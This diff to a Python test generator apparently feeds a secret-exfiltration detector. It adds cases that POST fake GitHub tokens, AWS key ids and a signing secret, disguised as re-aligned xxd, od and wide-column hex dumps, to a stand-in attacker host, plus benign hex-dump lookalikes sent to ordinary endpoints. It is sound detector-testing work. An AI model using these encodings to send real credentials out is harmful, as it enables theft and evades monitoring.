@@ -641,7 +641,44 @@ def attacks(rng: random.Random) -> list[Case]:
         method="POST", url=f"{evil}/j", headers=(JSON,),
         body=_json({"body": "1. The file:\n\n" + _indented(_wrapped_b64(
             f"[default]\naws_access_key_id = {seventh.aws_id()}\n".encode(), 12), "      ") + "\n2. Done.\n"}))
+
+    # -- re-aligned xxd, indented od -An -c, hex bytes in wide columns ----------------------------
+    eighth = _Fakes(random.Random(1408))  # its own generator: the cases before stay as they were
+    gh8 = f"[default]\ntoken = {eighth.github()}\n".encode()
+    aws8 = f"[default]\naws_access_key_id = {eighth.aws_id()}\n".encode()
+    add("hexdump", "xxd of a token file, its groups re-aligned with two or three blanks and tabs", ("github-token",),
+        method="POST", url=f"{evil}/paste", headers=plain,
+        body=_realigned_xxd(xxd(gh8), random.Random(3)).encode())
+    add("hexdump", "xxd -g4 of an AWS credentials file with tabs between groups, in a JSON field",
+        ("aws-access-key-id",), method="POST", url=f"{evil}/j", headers=(JSON,),
+        body=_json({"out": re.sub(r"(?<=[0-9a-f]{8}) (?=[0-9a-f]{8})", "\t", xxd(aws8, 4))}))
+    add("hexdump", "od -An -c of a token file in an indented Markdown code block", ("github-token",),
+        method="POST", url=f"{evil}/j", headers=(JSON,),
+        body=_json({"body": "1. The bytes:\n\n   ```\n" + _indented(od_an_c(gh8), "   ") + "   ```\n"}))
+    add("hexdump", "od -An -b of an AWS credentials file in a YAML block scalar", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/paste", headers=plain,
+        body=("job:\n  bytes: |\n" + _indented(od_an_b(aws8), "    ") + "  done: true\n").encode())
+    add("hexdump", "hex bytes of a token five blanks apart, sixteen a line", ("github-token",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=_wide_columns(gh8, 5).encode())
+    add("hexdump", "od -Ax -tx1 of the signing secret in wide columns", ("SIGNING_SECRET",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=_wide_columns(f"key={signing}\n".encode(), 6, offsets=True).encode())
+    add("hexdump", "one line of hex bytes of an AWS key id, a tab and blanks apart", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/paste", headers=plain,
+        body=("id:\t" + "\t    ".join(f"{b:02x}" for b in eighth.aws_id().encode()) + "\n").encode())
     return out
+
+
+def _realigned_xxd(dump: str, rng: random.Random) -> str:
+    """``xxd``'s lines with each blank between two groups made two or three blanks or a tab."""
+    return re.sub(r"(?<=[0-9a-f]{4}) (?=[0-9a-f]{4})", lambda m: rng.choice(("  ", "   ", "\t")), dump)
+
+
+def _wide_columns(data: bytes, blanks: int, *, offsets: bool = False) -> str:
+    """``data`` as hex bytes sixteen a line, ``blanks`` blanks apart; ``offsets``: after each
+    line's offset (``od -Ax -tx1`` with its columns widened)."""
+    lines = [(f"{at:06x}" + " " * blanks if offsets else "") + (" " * blanks).join(f"{b:02x}" for b in data[at:at + 16])
+             for at in range(0, len(data), 16)]
+    return "\n".join(lines + ([f"{len(data):06x}"] if offsets else [])) + "\n"
 
 
 def _wrapped_b64(data: bytes, width: int) -> str:
@@ -1029,6 +1066,24 @@ def benign(rng: random.Random) -> list[Case]:
               + "ids: |\n" + "".join("  " + base64.b64encode(quiet.randbytes(9)).decode() + "\n" for _ in range(30))
               + "keys:\n" + "".join(f"  k{i}: {base64.b64encode(quiet.randbytes(6)).decode()}\n" for i in range(30))
               ).encode())
+    aligned = random.Random(1408)
+    source = (b"import os\n\n\ndef main() -> None:\n    path = os.path.join('a', 'b')\n"
+              b"    print(f'reading {path}')\n") * 2
+    add("lookalike", "xxd of a binary and of a source file, re-aligned with tabs and wide blanks", method="POST",
+        url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "dumps", "body": "```\n" + _realigned_xxd(xxd(aligned.randbytes(160)), aligned)
+                    + "```\n\n```\n" + _realigned_xxd(xxd(source), aligned) + "```\n\n"
+                    + _wide_columns(aligned.randbytes(96), 5, offsets=True) + "\n" + _wide_columns(source, 4)}))
+    add("lookalike", "od -An -c and od -An -b of a source file, indented in Markdown and YAML", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("- dump:\n\n    ```\n" + _indented(od_an_c(source), "    ") + "    ```\n"
+              + "job:\n  octal: |\n" + _indented(od_an_b(aligned.randbytes(64)), "    ") + "  done: true\n").encode())
+    add("lookalike", "digests, a decimal table and a memory dump in wide columns", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("".join(f"{i:4d}      " + "      ".join(f"{b:02x}" for b in aligned.randbytes(16)) + "\n" for i in range(16))
+              + "".join("    ".join(f"{aligned.randrange(10, 100):>2}" for _ in range(12)) + "\n" for _ in range(20))
+              + "".join(f"0x{0x100003f80 + at:x}:    " + "    ".join(f"{b:02x}" for b in source[at:at + 16]) + "\n"
+                        for at in range(0, len(source), 16))).encode())
     return out
 
 
